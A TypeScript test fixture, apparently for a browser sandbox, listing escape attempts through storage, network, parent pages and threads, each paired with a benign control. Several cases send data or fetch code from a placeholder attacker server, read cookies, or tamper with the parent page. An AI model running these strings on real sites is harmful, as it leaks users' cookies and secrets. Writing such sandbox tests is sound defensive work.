import { door, type PageCase } from './page-case.ts';

/**
 * Ways out of the sandbox: storage, network, other pages, threads. `{{visitor}}` is an attacker's server, which allows
 * every origin; `{{site}}` is the site.
 */
const once = (target: string, good: string, bad = 'onerror'): string =>
  `new Promise((resolve, reject) => { const it = ${target}; it.${good} = () => resolve('open'); it.${bad} = () => reject(new Error('closed')); })`;

const storage: readonly PageCase[] = [
  door(
    'caches',
    'worker',
    "caches.open('genlab x').then((cache) => cache.put('{{site}}/', new Response('owned'))).then(() => caches.keys())",
    "Promise.resolve(new Map([['/', 'mine']]).size)",
  ),
  door(
    'indexed-db',
    'worker',
    once("indexedDB.open('owned')", 'onsuccess'),
    "structuredClone({ kept: 'here' })",
  ),
  door(
    'file-system',
    'worker',
    "navigator.storage.getDirectory().then((root) => root.getFileHandle('owned', { create: true }))",
    "new Blob(['mine']).text()",
  ),
  door(
    'locks',
    'worker',
    "navigator.locks.request('genlab', () => 'held')",
    'Promise.resolve(navigator.hardwareConcurrency)',
  ),
  door(
    'local-storage',
    'script',
    "localStorage.getItem('secret') ?? Promise.reject(new Error('nothing'))",
    'typeof localStorage',
  ),
  door(
    'session-storage',
    'script',
    "(sessionStorage.setItem('owned', '1'), sessionStorage.length)",
    'typeof sessionStorage',
  ),
  door(
    'cookie',
    'script',
    "document.cookie.includes('secret') ? document.cookie : Promise.reject(new Error('nothing'))",
    'typeof document',
  ),
  door('cookie-store', 'script', "cookieStore.set('owned', '1')", 'typeof cookieStore'),
  door(
    'service-worker',
    'script',
    "navigator.serviceWorker.register('/worker.js')",
    'typeof navigator.serviceWorker',
  ),
];

const network: readonly PageCase[] = [
  door('fetch', 'worker', "fetch('{{visitor}}/fetch')", 'typeof fetch'),
  door(
    'fetch-without-cors',
    'worker',
    "fetch('{{visitor}}/opaque', { mode: 'no-cors', keepalive: true })",
    "new Response('mine').text()",
  ),
  door(
    'fetch-of-the-site',
    'worker',
    "fetch('{{site}}/').then((response) => response.text())",
    "new Blob(['mine']).size",
  ),
  door(
    'fetch-taken-back',
    'worker',
    "Reflect.apply(Object.getPrototypeOf(globalThis).fetch ?? globalThis.fetch, globalThis, ['{{visitor}}/back'])",
    'Reflect.ownKeys({ mine: 1 }).length',
  ),
  door(
    'xml-http-request',
    'worker',
    `new Promise((resolve, reject) => { const it = new XMLHttpRequest(); it.onload = () => resolve('open'); it.onerror = () => reject(new Error('closed')); it.open('GET', '{{visitor}}/xhr'); it.send(); })`,
    'typeof XMLHttpRequest',
  ),
  door('web-socket', 'worker', once("new WebSocket('{{visitor-ws}}/socket')", 'onopen'), 'typeof WebSocket'),
  door(
    'event-source',
    'worker',
    once("new EventSource('{{visitor}}/events')", 'onopen'),
    'typeof EventSource',
  ),
  door(
    'import-scripts',
    'worker',
    "(importScripts('{{visitor}}/worker.js'), 'imported')",
    'typeof importScripts',
  ),
  door(
    'import',
    'worker',
    "import(['{{visitor}}', 'module.js'].join('/'))",
    "import('@tensorflow/tfjs').then((tf) => typeof tf.add)",
  ),
  door(
    'import-of-data',
    'worker',
    "import(['data:text/javascript', 'export default 1'].join())",
    "Promise.resolve('data:')",
  ),
  door(
    'import-of-a-blob',
    'worker',
    "import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' })))",
    "new Blob(['export default 1']).text()",
  ),
  door(
    'font',
    'worker',
    "new FontFace('owned', 'url({{visitor}}/font)').load().catch((error) => { if (error.name === 'NetworkError') throw error; })",
    'typeof FontFace',
  ),
  door(
    'beacon',
    'script',
    "navigator.sendBeacon('{{visitor}}/beacon', 'secret') || Promise.reject(new Error('closed'))",
    'typeof navigator.sendBeacon',
  ),
  door(
    'image',
    'script',
    once("Object.assign(new Image(), { src: '{{visitor}}/image' })", 'onload'),
    'typeof Image',
  ),
  door('peer-connection', 'script', 'new RTCPeerConnection().createOffer()', 'typeof RTCPeerConnection'),
];

const pages: readonly PageCase[] = [
  door('parent', 'script', "(parent.document.title = 'owned', parent.document.title)", 'typeof parent'),
  door('top', 'script', '(top.location.href, top.document.cookie)', 'typeof top'),
  door(
    'message-to-parent',
    'script',
    "(parent.postMessage({ kind: 'observed' }, '*'), 'sent')",
    'typeof parent',
  ),
  door('navigation', 'script', "(location.assign('{{visitor}}/moved'), 'moved')", 'typeof location.href'),
  door('popup', 'script', "open('{{visitor}}/popup') ?? Promise.reject(new Error('closed'))", 'typeof open'),
  door(
    'form',
    'script',
    `(() => { const form = document.createElement('form'); form.action = '{{visitor}}/form'; document.body.append(form); form.submit(); return 'sent'; })()`,
    'typeof document',
  ),
  door('document', 'script', "(document.body.append('owned'), 'written')", 'typeof document'),
  door(
    'broadcast',
    'worker',
    "(new BroadcastChannel('genlab').postMessage('owned'), 'sent')",
    'typeof BroadcastChannel',
  ),
];

const threads: readonly PageCase[] = [
  door('worker', 'worker', once("new Worker('{{site}}/worker.js')", 'onmessage'), 'typeof Worker'),
  door(
    'worker-of-a-blob',
    'worker',
    once("new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))", 'onmessage'),
    "URL.createObjectURL(new Blob(['mine'])).length",
  ),
  door(
    'shared-worker',
    'script',
    once("new SharedWorker('/worker.js').port", 'onmessage'),
    'typeof SharedWorker',
  ),
  door('eval', 'worker', "(0, eval)('1 + 1')", '1 + 1'),
  door('function-constructor', 'worker', "new Function('return 1')()", '(() => 1)()'),
  door('function-by-prototype', 'worker', "(async () => {}).constructor('return 1')()", '(async () => 1)()'),
];

export const doors: readonly PageCase[] = [...storage, ...network, ...pages, ...threads];
